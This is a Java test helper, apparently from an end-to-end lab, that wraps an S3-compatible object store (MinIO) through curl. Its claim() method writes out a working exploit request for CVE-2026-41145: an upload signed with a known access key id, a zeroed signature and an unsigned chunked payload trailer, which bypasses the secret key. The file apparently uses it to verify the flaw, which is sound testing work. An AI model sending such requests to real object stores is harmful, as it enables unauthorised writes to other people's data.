package io.lakeswarm.e2e.lab;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Base64;
import java.util.List;
import java.util.regex.Pattern;
import java.util.zip.CRC32;

/**
 * The object store as the lake user sees it. Its S3 port is not published, so every request is made
 * and signed by curl in the server's own container; keys go by standard input.
 */
public final class ObjectStore {
  private static final Pattern KEY = Pattern.compile("<Key>([^<]+)</Key>");

  private final Platform platform;
  private final Containers containers;

  /** The object store of {@code platform}. */
  public ObjectStore(Platform platform) {
    this.platform = platform;
    this.containers = new Containers(platform.lab(), platform.swarm());
  }

  /** An answer: status and body. */
  public record Answer(int status, String body) {}

  /** Stores a text. */
  public Answer put(String bucket, String key, String text) {
    return request("PUT", bucket + "/" + key, "data-binary = \"" + text + "\"\n");
  }

  /** Reads an object. */
  public Answer get(String bucket, String key) {
    return request("GET", bucket + "/" + key, "");
  }

  /** Removes an object. */
  public Answer delete(String bucket, String key) {
    return request("DELETE", bucket + "/" + key, "");
  }

  /** Up to a thousand keys that begin so, sorted; throws when there are more. */
  public List<String> keys(String bucket, String prefix) {
    Answer answer =
        request("GET", bucket + "?list-type=2&prefix=" + prefix.replace("/", "%2F"), "");
    if (answer.status() != 200 || !answer.body().contains("<IsTruncated>false<")) {
      throw new IllegalStateException("Cannot list " + bucket + "/" + prefix + ": " + answer);
    }
    return KEY.matcher(answer.body()).results().map(found -> found.group(1)).sorted().toList();
  }

  /**
   * Sends an upload of someone who knows the name of the lake user's key and not its secret: the
   * request of CVE-2026-41145.
   */
  public Answer claim(String bucket, String key, String text) {
    Instant now = Instant.now();
    String query =
        "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=%s%%2F%s%%2Fus-east-1%%2Fs3%%2Faws4_request"
                .formatted(platform.secret("aws_access_key_id"), at(now, "yyyyMMdd"))
            + "&X-Amz-Date=%s&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=%s"
                .formatted(at(now, "yyyyMMdd'T'HHmmss'Z'"), "0".repeat(64));
    String more =
        """
        header = "Content-Encoding: aws-chunked"
        header = "X-Amz-Content-Sha256: STREAMING-UNSIGNED-PAYLOAD-TRAILER"
        header = "X-Amz-Decoded-Content-Length: %1$d"
        header = "X-Amz-Trailer: x-amz-checksum-crc32"
        data-binary = "%1$x\\r\\n%2$s\\r\\n0\\r\\nx-amz-checksum-crc32:%3$s\\r\\n\\r\\n"
        """
            .formatted(text.length(), text, crc32(text));
    return send("PUT", bucket + "/" + key + "?" + query, more);
  }

  private static String at(Instant time, String pattern) {
    return DateTimeFormatter.ofPattern(pattern).withZone(ZoneOffset.UTC).format(time);
  }

  private static String crc32(String text) {
    CRC32 sum = new CRC32();
    sum.update(text.getBytes(StandardCharsets.US_ASCII));
    byte[] bytes = ByteBuffer.allocate(Integer.BYTES).putInt((int) sum.getValue()).array();
    return Base64.getEncoder().encodeToString(bytes);
  }

  private Answer request(String method, String path, String more) {
    String keys =
        """
        user = "%s:%s"
        aws-sigv4 = "aws:amz:us-east-1:s3"
        """
            .formatted(
                platform.secret("aws_access_key_id"), platform.secret("aws_secret_access_key"));
    return send(method, path, keys + more);
  }

  private Answer send(String method, String path, String more) {
    String config =
        """
        url = "http://127.0.0.1:9000/%s"
        request = "%s"
        max-time = 15
        silent
        show-error
        write-out = "\\n%%{http_code}"
        %s\
        """
            .formatted(path, method, more);
    Command.Result result =
        containers.exec("lakehouse_minio", "curl", "--config", "-").reading(config).run().orThrow();
    String out = "\n" + result.out().strip();
    int cut = out.lastIndexOf('\n');
    return new Answer(Integer.parseInt(out.substring(cut + 1)), out.substring(0, cut).strip());
  }
}
